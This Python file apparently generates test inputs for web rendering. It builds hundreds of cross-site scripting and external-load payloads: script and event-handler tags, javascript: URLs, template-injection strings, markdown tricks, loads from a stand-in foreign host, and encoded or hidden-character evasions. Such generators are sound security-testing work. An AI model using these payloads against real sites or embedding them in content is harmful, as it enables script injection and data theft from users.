"""Hostile texts by the hundred: what a page would run or load if it took text for markup. Made by code, none copied.

Each calls `xss()` or loads from `FOREIGN`; a page that shows it as text does neither.
"""

from __future__ import annotations

from collections.abc import Iterator

FOREIGN = "http://192.0.2.1"
RUN = "xss()"
_TAGS = ("img", "svg", "video", "audio", "input", "body", "details", "iframe", "object", "marquee")
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "javascript&colon;",
    "data:text/html,",
    "vbscript:",
)
_BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
)
_TEMPLATES = (
    "${xss()}",
    "{{xss()}}",
    "{{constructor.constructor('xss()')()}}",
    "<%= xss() %>",
    "#{xss()}",
    "[[xss()]]",
    "{@html '<img src=x onerror=xss()>'}",
    "`${xss()}`",
    "@{{xss()}}",
    "{% xss() %}",
)
_MARKDOWN = (
    "[点]({scheme}xss())",
    "![]({foreign}/a.png)",
    "[a]: {foreign}/b",
    "<{scheme}xss()>",
    '![x](x"onerror="xss())',
    "[x](//192.0.2.1/c)",
    "```html\n<script>xss()</script>\n```",
    "# <img src=x onerror=xss()>",
)
_LOADS = (
    "<img src={foreign}/1.png>",
    "<link rel=stylesheet href={foreign}/2.css>",
    "<script src={foreign}/3.js></script>",
    "<style>@import url({foreign}/4.css);</style>",
    "<div style='background:url({foreign}/5.png)'>",
    "<iframe src={foreign}/6></iframe>",
    "<meta http-equiv=refresh content='0;url={foreign}/7'>",
    "<base href={foreign}/>",
    "<form action={foreign}/8><button autofocus>提交</button></form>",
    "<object data={foreign}/9></object>",
    "<video poster={foreign}/10.png></video>",
    "<svg><image href={foreign}/11.png /></svg>",
)


def payloads(count: int = 400) -> list[str]:
    """Return `count` different payloads, of all kinds in turn."""
    families = [
        _scripts(),
        _handlers(),
        _links(),
        iter(_TEMPLATES),
        _markdown(),
        _loads(),
        _coded(),
    ]
    found: dict[str, None] = {}
    while len(found) < count:
        for family in families:
            payload = next(family, None)
            if payload is not None and len(found) < count:
                found.setdefault(payload)
    return list(found)


def _scripts() -> Iterator[str]:
    for before in _BREAKS:
        for tag in ("script", "ScRiPt", "script/x", "script "):
            yield f"{before}<{tag}>{RUN}</script>"


def _handlers() -> Iterator[str]:
    for before in _BREAKS:
        for tag in _TAGS:
            for event in _EVENTS:
                yield f"{before}<{tag} src=x autofocus open tabindex=0 {event}={RUN}>"
    for quote in ('"', "'", "`"):
        for event in _EVENTS:
            yield f"{quote} autofocus {event}={quote}{RUN}{quote} x={quote}"


def _links() -> Iterator[str]:
    for scheme in _SCHEMES:
        for tag in (
            "a href",
            "iframe src",
            "form action",
            "object data",
            "embed src",
            "a xlink:href",
        ):
            yield f'<{tag}="{scheme}{RUN}">点这里</{tag.split()[0]}>'
        yield f"{scheme}{RUN}"


def _markdown() -> Iterator[str]:
    for scheme in _SCHEMES:
        for pattern in _MARKDOWN:
            yield pattern.replace("{scheme}", scheme).replace("{foreign}", FOREIGN)


def _loads() -> Iterator[str]:
    for before in _BREAKS:
        for pattern in _LOADS:
            yield before + pattern.replace("{foreign}", FOREIGN)


def _coded() -> Iterator[str]:
    """What is markup only once it is decoded, joined or cleaned of hidden characters."""
    script = f"<img src=x onerror={RUN}>"
    yield script.replace("<", "&lt;").replace(">", "&gt;")
    yield script.replace("<", "&#60;").replace(">", "&#62;")
    yield script.replace("<", "&#x3c;").replace(">", "&#x3e;")
    yield script.replace("<", "\\u003c").replace(">", "\\u003e")
    yield script.replace("<", "%3C").replace(">", "%3E")
    yield script.replace("<", "%253C").replace(">", "%253E")
    yield script.replace("<", "＜").replace(">", "＞")
    for hidden in ("\u200b", "\u00ad", "\x00", "\u202e", "\ufeff", "\u2060"):
        yield f"<{hidden}img src=x onerror={RUN}>"
        yield f"<im{hidden}g src=x onerror={RUN}>"
        yield f"<img src=x one{hidden}rror={RUN}>"
        yield f"java{hidden}script:{RUN}"
    for at in range(1, len(script)):
        yield f"{script[:at]}<b></b>{script[at:]}"
